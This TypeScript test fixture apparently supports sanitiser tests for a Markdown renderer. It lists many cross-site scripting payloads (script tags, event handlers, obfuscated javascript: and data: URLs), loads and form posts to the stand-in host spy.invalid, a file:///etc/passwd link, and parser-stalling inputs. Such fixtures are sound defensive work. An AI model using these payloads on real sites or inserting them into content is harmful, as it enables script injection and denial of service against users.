/**
 * Markdown that tries to run something, to load something or to lead somewhere: none of it may. Every payload that would
 * work sets `window.hacked` or asks the host `spy.invalid`.
 */
const RUN = 'window.hacked=1';
const scheme = (name: string) => `${name}:${RUN}`;

const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//spy.invalid/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\n>${RUN}</script\n>`,
  `<script/x>${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="${scheme('javascript')}"><text y=20>a</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x">`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.hacked=1</script>"></iframe></foreignObject></svg>`,
  `<math><maction actiontype="statusline#" xlink:href="${scheme('javascript')}">a</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}"`,
  `<img """><script>${RUN}</script>">`,
  `<img src="https://spy.invalid/a.png">`,
  `<img srcset="https://spy.invalid/b.png 1x">`,
  `<picture><source srcset="https://spy.invalid/c.png"><img></picture>`,
  `<iframe src="${scheme('javascript')}"></iframe>`,
  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
  `<iframe src="https://spy.invalid/"></iframe>`,
  `<object data="${scheme('javascript')}"></object>`,
  `<embed src="${scheme('javascript')}">`,
  `<link rel=stylesheet href="https://spy.invalid/x.css">`,
  `<style>@import "https://spy.invalid/y.css"; * { display: none }</style>`,
  `<meta http-equiv=refresh content="0;url=https://spy.invalid/">`,
  `<base href="https://spy.invalid/">`,
  `<form action="https://spy.invalid/"><input name=q><button>go</button></form>`,
  `<form><button formaction="${scheme('javascript')}">go</button></form>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<details open ontoggle=${RUN}><summary>a</summary></details>`,
  `<video src=x onerror=${RUN}></video>`,
  `<audio src="https://spy.invalid/a.mp3" autoplay></audio>`,
  `<video poster="https://spy.invalid/p.png"></video>`,
  `<marquee onstart=${RUN}>a</marquee>`,
  `<body onload=${RUN}>`,
  `<div onpointerenter=${RUN} style="position:fixed;inset:0">cover</div>`,
  `<div style="background:url(https://spy.invalid/bg.png)">a</div>`,
  `<a href="${scheme('javascript')}">a</a>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><x onload=${RUN}/>`,
  `<x-thing is=script onclick=${RUN}>a</x-thing>`,
  `<p id=hacked name=hacked><a id=getElementById>a</a></p>`,
  `\`\`\`html\n</code></pre><script>${RUN}</script>\n\`\`\``,
  `\`</code><img src=x onerror=${RUN}>\``,
];

const ADDRESSES = [
  ...['javascript', 'JaVaScRiPt', 'vbscript', 'livescript'].map(scheme),
  `java\tscript:${RUN}`,
  `java&#10;script:${RUN}`,
  `java&Tab;script:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;&#x61;vascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript://%0A${RUN}`,
  `javascript:/*--></title></style></script>*/${RUN}`,
  `data:text/html,<script>opener.hacked=1</script>`,
  `data:text/html;base64,PHNjcmlwdD5vcGVuZXIuaGFja2VkPTE8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `blob:https://spy.invalid/1`,
  `file:///etc/passwd`,
  `view-source:https://spy.invalid/`,
];

const MARKDOWN = [
  ...ADDRESSES.map(address => `[a](${address})`),
  ...ADDRESSES.map(address => `[b](<${address}> "title")`),
  ...ADDRESSES.slice(0, 4).map(address => `<${address}>`),
  ...ADDRESSES.slice(0, 4).map(address => `![c](${address})`),
  `[d]\n\n[d]: ${scheme('javascript')}`,
  `[e][f]\n\n[f]: <${scheme('data')}> "x"`,
  `![pixel](https://spy.invalid/pixel.png)`,
  `![g]\n\n[g]: https://spy.invalid/g.png`,
  `[![h](https://spy.invalid/h.png)](${scheme('javascript')})`,
  `[i](https://example.com/" onmouseover="${RUN})`,
  `[j](https://example.com/ '" onmouseover="${RUN}')`,
  `[k](${scheme('javascript')} "https://example.com/")`,
  `[[[l](${scheme('javascript')})](https://example.com/)]`,
  `[m](\n${scheme('javascript')}\n)`,
  `[^1]\n\n[^1]: [n](${scheme('javascript')})`,
  `| a |\n|---|\n| [o](${scheme('javascript')}) <img src=x onerror=${RUN}> |`,
  `- [ ] <img src=x onerror=${RUN}>`,
  '# hacked',
  `# <img src=x onerror=${RUN}>`,
  `www.example.com"onmouseover="${RUN}`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %>`,
  `\u202E[p](${scheme('javascript')})\u202C \u0000 \uFEFF`,
];

/** Payloads that stand for what a writer could put anywhere into a guide. */
export const HOSTILE_TEXTS: string[] = [...ELEMENTS, ...MARKDOWN];

/** Addresses that the place in the repository may claim to have. */
export const HOSTILE_ADDRESSES: string[] = ADDRESSES;

const repeated = (unit: string, length: number) =>
  unit.repeat(Math.ceil(length / unit.length)).slice(0, length);

/** Texts that keep a Markdown parser busy for seconds or minutes. 31,000 characters each. */
export const SLOW_TEXTS: Record<string, string> = Object.fromEntries(
  [
    ['- ', 'nested lists'],
    ['> ', 'nested quotes'],
    ['1. ', 'nested numbers'],
    ['> - ', 'lists in quotes'],
    ['[', 'open brackets'],
    ['![](', 'open images'],
    ['*a ', 'open emphasis'],
    ['_a*b', 'mixed emphasis'],
    ['`', 'back ticks'],
    ['<a ', 'open elements'],
    ['&', 'open entities'],
    ['a\n\n- ', 'many lists'],
    ['|', 'columns'],
    ['[a](', 'open links'],
    ['http://a', 'addresses'],
    ['\t', 'tabs'],
  ].map(([unit, name]) => [name, repeated(unit, 31_000)]),
);
